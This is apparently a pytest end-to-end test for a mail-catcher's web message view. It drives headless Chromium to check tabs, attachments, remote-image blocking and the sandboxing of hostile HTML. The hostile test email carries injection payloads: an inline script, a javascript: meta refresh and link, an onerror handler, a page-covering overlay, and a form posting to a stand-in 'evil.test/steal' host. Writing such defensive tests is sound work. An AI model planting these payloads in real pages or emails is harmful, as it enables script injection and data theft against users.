"""The message view (web/message.js) in real headless Chromium: tests/e2e/message.mjs (playwright-core
driving Debian's chromium) against a fresh server fed over SMTP.

Two messages are sent before the script starts: a multipart one (text, HTML with a remote image and an
inline cid: image, a PDF attachment) and a hostile one (HTML with a script, a form, <meta refresh>, a
javascript: link and a position:fixed overlay). The script opens each by clicking its row, checks every
tab, the remote-image switch, the attachment download's bytes, the headers analyzer's report (run in
the background by the server on its defaults; the rich message has a Message-ID but no Date, so it lists
date.missing), that the hostile HTML ran and changed nothing, mark unread and delete, and saves a
screenshot of each tab into the test's tmp dir. Every check
the script makes must be reported as passed.

A missing chromium or node skips with a MISSING TOOL reason, a missing playwright-core fails (as in
test_web_ui.py)."""

import hashlib
import json
import os
import struct
import zlib
from email.message import EmailMessage

import pytest

from browser import NPM_DIR, assert_screenshots, needs_browser, run_script
from helpers import smtplib_send, token

RUN_TIMEOUT_S = 120.0  # one whole run of the script (each wait in it gives up after 15 s)
REMOTE_URL = "http://images.remote.test/pixel.gif"
PDF_NAME = "report.pdf"

EXPECTED_CHECKS = [
    "message opens from its row", "header shows addresses, size and tags",
    "tabs are a tablist with six tabs, HTML first", "HTML frame is sandboxed without scripts or same-origin",
    "HTML frame shows the view URL", "inline cid image loads from its part URL", "remote images counted and blocked",
    "Show images reloads with remote=1", "remote image loads after Show images", "width presets",
    "arrow keys move between tabs", "Text tab shows the text part",
    "Source tab colours header names and shows the raw message", "Source tab links the .eml download",
    "Headers tab lists the headers", "Headers tab shows the envelope",
    "Attachments tab lists the PDF with type, size and SHA-256", "Attachments tab lists the inline image with a thumbnail",
    "thumbnail image decodes", "attachment download returns the exact bytes",
    "Analysis tab shows the headers report with date.missing",
    "Mark unread marks it unread", "hostile HTML ran no script", "hostile HTML did not navigate the page",
    "hostile HTML did not cover the UI", "UI stays clickable beside hostile HTML",
    "Delete removes the message and closes the pane", "no script errors or failed requests",
]
SCREENSHOTS = ["tab-html.png", "tab-text.png", "tab-source.png", "tab-headers.png", "tab-attachments.png",
               "tab-analysis.png", "hostile.png"]


def _png(width=4, height=3):
    """A valid RGB PNG (so the thumbnail really decodes)."""
    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
    rows = b"".join(b"\x00" + b"\x20\x60\xc0" * width for _ in range(height))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)) +
            chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def _wire(m):
    return m.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")


def _rich(tok, pdf):
    m = EmailMessage()
    m["From"] = "Carol Sender <carol@example.com>"
    m["To"] = "Dave <dave@example.org>"
    m["Cc"] = "erin@example.org"
    m["Subject"] = f"Rich {tok}"
    m["X-Tags"] = "billing"
    m["Message-ID"] = f"<rich-{tok}@mailjar.test>"
    m.set_content(f"Plain text of {tok}.\n")
    m.add_alternative(f'<html><body><h1>HTML of {tok}</h1><img src="cid:logo@mailjar.test" alt="logo">'
                      f'<img src="{REMOTE_URL}" alt="remote"></body></html>', subtype="html")
    m.get_payload()[1].add_related(_png(), "image", "png", cid="<logo@mailjar.test>")
    m.add_attachment(pdf, maintype="application", subtype="pdf", filename=PDF_NAME)
    return _wire(m)


def _hostile(tok):
    m = EmailMessage()
    m["From"] = "Mallory <mallory@example.com>"
    m["To"] = "dave@example.org"
    m["Subject"] = f"Hostile {tok}"
    m.set_content("hostile\n")
    m.add_alternative(
        '<html><head><meta http-equiv="refresh" content="0;url=javascript:window.parent.__pwned=1">'
        "<style>.cover{position:fixed;top:-2000px;left:-2000px;width:9000px;height:9000px;z-index:2147483647;"
        "background:rgba(255,0,0,.4)}</style></head><body>"
        "<script>window.parent.__pwned=1;window.top.location='about:blank'</script>"
        '<form action="http://evil.test/steal" method="post"><input name="x" value="1"><button>go</button></form>'
        '<a href="javascript:window.parent.__pwned=1">click</a>'
        '<img src="x" onerror="window.parent.__pwned=1"><div class="cover">covered</div>'
        "</body></html>", subtype="html")
    return _wire(m)


def _send(server, raw):
    with server.smtp() as client:
        return smtplib_send(client, "carol@example.com", ["dave@example.org"], raw)


@needs_browser[0]
@needs_browser[1]
@pytest.mark.timeout_s(RUN_TIMEOUT_S + 30)
def test_message_view_tabs_download_and_hostile_html(make_server, tmp_path):
    server = make_server()
    tok = token()
    pdf = b"%PDF-1.4\n" + os.urandom(3000) + b"\n%%EOF\n"
    _send(server, _rich(tok, pdf))
    _send(server, _hostile(tok))

    shots = tmp_path / "screenshots"
    shots.mkdir()
    spec = {"token": tok, "rich": f"Rich {tok}", "hostile": f"Hostile {tok}", "pdfName": PDF_NAME,
            "pdfSha256": hashlib.sha256(pdf).hexdigest(), "pdfSize": len(pdf), "remoteUrl": REMOTE_URL}
    url = f"http://127.0.0.1:{server.http_port}/"
    run = run_script("message.mjs", [url, json.dumps(spec), str(shots), NPM_DIR], RUN_TIMEOUT_S)
    run.assert_passed(EXPECTED_CHECKS)
    assert_screenshots(shots, SCREENSHOTS)
